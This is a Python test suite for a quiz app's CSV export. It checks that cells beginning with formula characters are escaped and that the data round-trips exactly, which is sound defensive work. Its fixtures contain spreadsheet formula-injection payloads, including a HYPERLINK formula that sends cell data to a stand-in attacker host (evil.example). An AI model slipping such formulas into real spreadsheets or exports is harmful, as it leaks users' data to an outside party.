"""CSV exports never hand a spreadsheet a formula (issue #18, case 11), and read back exactly."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from quizapp.core.context import AppContext
from quizapp.core.formats import parse_csv
from quizapp.core.formats.spreadsheet import escape_cell, unescape_cell
from quizapp.core.formats.writers.csv_sheet import write_csv
from quizapp.core.questions import Choice, QuestionData
from tests.core.exports.conftest import import_file

DANGEROUS = ('=HYPERLINK("http://evil.example/?leak="&A1, "Click for the answer")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "'=already quoted once", "''=twice")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _question(text: str, qid: str = "=id") -> QuestionData:
    return QuestionData(stem=text, choices=(Choice(text, True, text), Choice("-5 °C", False)), ext_id=qid,
                        topic=text, rationale=text, tags=(text.replace("|", ""),))


def test_no_exported_cell_starts_like_a_formula_and_each_comes_back() -> None:
    questions = [_question(text, f"q-{n}") for n, text in enumerate(DANGEROUS)] + [_question("fine", "=id")]
    sheet = write_csv(questions).text
    for row in _cells(sheet):
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
    assert _cells(sheet)[0]["stem"] == "'" + DANGEROUS[0]
    result = parse_csv(sheet)
    assert not result.errors and [i.question for i in result.items] == questions


@given(st.text(max_size=30))
def test_escaping_is_undone_exactly(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_a_formula_stem_round_trips_through_export_and_import(source: AppContext, fresh, tmp_path: Path) -> None:
    gift = tmp_path / "formula.gift"
    gift.write_text("::f-1:: \\=HYPERLINK(\"http\\://evil.example\", \"Click\") is what? {=-5 ~+5 ~@home ~fine}\n",
                    encoding="utf-8")
    slug = import_file(source, gift)
    out = tmp_path / "out" / "formula.csv"
    out.parent.mkdir()
    source.exports.export(slug, "csv", out)
    row = _cells(out.read_text(encoding="utf-8"))[0]
    assert row["stem"].startswith("'=HYPERLINK(") and row["option_a"] == "'-5" and row["option_c"] == "'@home"
    student = fresh("student")
    back = student.exports.questions(import_file(student, out))
    # Every field a CSV sheet carries comes back exactly (Moodle's own bookkeeping is GIFT's).
    assert [replace(q, moodle=None) for q in back] == [replace(q, moodle=None) for q in source.exports.questions(slug)]
